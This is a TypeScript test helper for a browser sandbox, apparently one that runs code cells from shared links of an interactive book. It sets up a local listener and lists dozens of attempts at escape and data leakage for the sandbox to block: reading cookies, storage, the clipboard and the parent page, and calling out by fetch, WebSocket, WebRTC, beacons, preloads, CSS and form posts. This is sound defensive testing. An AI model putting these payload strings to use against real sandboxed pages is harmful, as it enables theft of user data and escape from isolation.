// A link that somebody made who means harm, and a machine of theirs that waits for what it brings out.

import {createSocket, type Socket} from "node:dgram";
import {createServer, type Server} from "node:net";
import type {AddressInfo} from "node:net";
import {packShared, type Shared} from "../../src/book/shared_link.ts";

/** Hears everything that comes to it: what is asked for over TCP, and each packet over UDP. */
export class Listener {
  readonly heard: string[] = [];
  private readonly tcp: Server;
  private readonly udp: Socket;

  constructor() {
    this.tcp = createServer((socket) => {
      socket.on("error", () => {});
      socket.on("data", (data) => {
        this.heard.push(String(data).split("\r\n", 1)[0]!);
        socket.end(
          "HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n",
        );
      });
    });
    this.udp = createSocket("udp4").on("message", () => this.heard.push("a packet"));
  }

  async listen(): Promise<{http: string; stun: string}> {
    await new Promise<void>((done) => this.tcp.listen(0, "127.0.0.1", done));
    await new Promise<void>((done) => this.udp.bind(0, "127.0.0.1", done));
    const {port} = this.tcp.address() as AddressInfo;
    return {
      http: `http://127.0.0.1:${port}`,
      stun: `stun:127.0.0.1:${this.udp.address().port}`,
    };
  }

  close(): void {
    this.tcp.close();
    this.udp.close();
  }
}

export async function linkTo(site: string, shared: Partial<Shared>): Promise<string> {
  const whole = {chapter: "00-start-here", edition: "theirs", cells: [], kernel: [], ...shared};
  return `${site}${whole.chapter}.html#${await packShared(whole)}`;
}

/** What is tried, by name: each expression gives something that should not be had, or throws, or never answers. */
export function attempts(
  http: string,
  stun: string,
  site: string,
): Readonly<Record<string, string>> {
  const ws = http.replace("http", "ws");
  return {
    "local storage": `w.localStorage.length`,
    "session storage": `w.sessionStorage.length`,
    cookies: `document.cookie`,
    "an indexed database": `new Promise((y, n) => { const r = w.indexedDB.open("x"); r.onsuccess = () => y("opened"); r.onerror = () => n(r.error); })`,
    caches: `w.caches.keys().then((keys) => keys.length)`,
    "the page around it": `w.parent.document.body.innerHTML`,
    "the other cells": `w.parent.document.querySelector("[data-cell]").textContent`,
    "the storage of the page": `w.top.localStorage.length`,
    "a fetch": `fetch("${http}/fetch")`,
    "a fetch of the book": `fetch("${site}11-the-thread.html").then((r) => r.text())`,
    "an XMLHttpRequest": `new Promise((y, n) => { const x = new w.XMLHttpRequest(); x.open("GET", "${http}/xhr"); x.onload = () => y("loaded"); x.onerror = () => n("no"); x.send(); })`,
    "an image": `new Promise((y, n) => { const i = new Image(); i.onload = () => y("loaded"); i.onerror = () => n("no"); i.src = "${http}/image"; })`,
    "a web socket": `new Promise((y, n) => { const s = new w.WebSocket("${ws}/socket"); s.onopen = () => y("open"); s.onerror = () => n("no"); })`,
    "an event source": `new Promise((y, n) => { const s = new w.EventSource("${http}/events"); s.onopen = () => y("open"); s.onerror = () => n("no"); })`,
    "a worker": `new Promise((y, n) => { const k = new w.Worker(URL.createObjectURL(new Blob(["fetch('${http}/worker').then(() => postMessage('sent'))"]))); k.onmessage = (e) => y(e.data); k.onerror = () => n("no"); })`,
    "a shared worker": `new Promise((y, n) => { const k = new w.SharedWorker("${site}sw.js"); k.onerror = () => n("no"); })`,
    "a service worker": `w.navigator.serviceWorker.register("${site}sw.js")`,
    "a script": `new Promise((y, n) => { const s = document.createElement("script"); s.src = "${http}/script.js"; s.onload = () => y("loaded"); s.onerror = () => n("no"); document.head.append(s); })`,
    "a script in the text": `new Promise((y, n) => { const s = document.createElement("script"); s.textContent = "window.ran = true"; document.head.append(s); w.ran ? y("ran") : n("no"); })`,
    "a module": `import("${http}/module.js")`,
    "a connection between browsers": `(() => { const c = new (w.RTCPeerConnection ?? w.webkitRTCPeerConnection)({iceServers: [{urls: "${stun}"}]}); c.createDataChannel("x"); return c.createOffer().then((offer) => c.setLocalDescription(offer)); })()`,
    "one of a frame within": `(() => { const f = document.createElement("iframe"); document.body.append(f); const C = f.contentWindow.RTCPeerConnection; const c = new C({iceServers: [{urls: "${stun}"}]}); c.createDataChannel("x"); return c.createOffer().then((offer) => c.setLocalDescription(offer)); })()`,
    "a script of a frame within": `new Promise((y, n) => { w.addEventListener("message", (e) => y(e.data)); const f = document.createElement("iframe"); f.srcdoc = "<script>parent.postMessage(typeof RTCPeerConnection, '*')</" + "script>"; document.body.append(f); setTimeout(n, 300, "no"); })`,
    "a javascript: frame": `new Promise((y, n) => { const f = document.createElement("iframe"); w.addEventListener("message", (e) => y(e.data)); f.src = "javascript:parent.postMessage('js', '*')"; document.body.append(f); setTimeout(n, 300, "no"); })`,
    "a window": `(() => { if (!w.open("${http}/window")) throw "no"; return "open"; })()`,
    "another page on top": `(() => { w.top.location.href = "${http}/top"; return new Promise(() => {}); })()`,
    "the clipboard": `w.navigator.clipboard.readText()`,
  };
}

/** Gives no answer, so only what the listener hears counts. */
export function signals(http: string): readonly string[] {
  const link = (rel: string, as = "") =>
    `{ const l = document.createElement("link"); l.rel = "${rel}"; l.as = "${as}"; l.href = "${http}/${rel}"; document.head.append(l); }`;
  return [
    `w.navigator.sendBeacon("${http}/beacon", "x")`,
    ...[
      link("stylesheet"),
      link("prefetch"),
      link("preload", "image"),
      link("modulepreload"),
      link("icon"),
      link("manifest"),
      link("prerender"),
    ],
    `{ const s = document.createElement("style"); s.textContent = "@import url(${http}/import); body { background: url(${http}/background) } @font-face { font-family: f; src: url(${http}/font) } body { font-family: f }"; document.head.append(s); }`,
    ...["video", "audio", "embed", "iframe", "input"].map(
      (tag) =>
        `{ const m = document.createElement("${tag}"); m.type = "image"; m.src = "${http}/${tag}"; document.body.append(m); }`,
    ),
    `{ const o = document.createElement("object"); o.data = "${http}/object"; document.body.append(o); }`,
    `{ const f = document.createElement("form"); f.action = "${http}/form"; f.method = "post"; document.body.append(f); f.submit(); }`,
    `{ const a = document.createElement("a"); a.href = "${http}/click"; a.ping = "${http}/ping"; a.target = "_top"; document.body.append(a); a.click(); }`,
    `document.body.insertAdjacentHTML("beforeend", '<img src="${http}/markup"><svg><image href="${http}/svg"/><use href="${http}/use#a"/></svg>')`,
  ];
}
